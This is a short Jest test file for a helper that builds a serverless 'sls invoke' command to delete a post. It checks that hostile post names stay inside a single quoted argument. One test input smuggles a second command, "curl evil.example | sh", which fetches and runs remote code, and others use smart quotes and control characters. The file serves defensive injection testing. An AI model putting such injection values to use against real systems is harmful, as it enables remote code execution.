import { expect, it } from '@jest/globals'
import { deletionOf } from '../../../pages/owner/words'

it('is a command that deletes the post', () => {
  expect(deletionOf('1')).toBe(`npx sls invoke -f privacy --data '{"delete":{"posts":["1"]}}'`)
})

it.each(["1'; curl evil.example | sh; '", '1’; calc; ‘', '1\u202E\u0007\n2', '1\u{E0001}'])(
  'is one command for a post called %j',
  (post) => {
    const command = deletionOf(post)
    const [, data = ''] = /^npx sls invoke -f privacy --data '([^'‘’\p{C}]*)'$/u.exec(command) ?? []

    expect(JSON.parse(data)).toEqual({ delete: { posts: [post] } })
  },
)
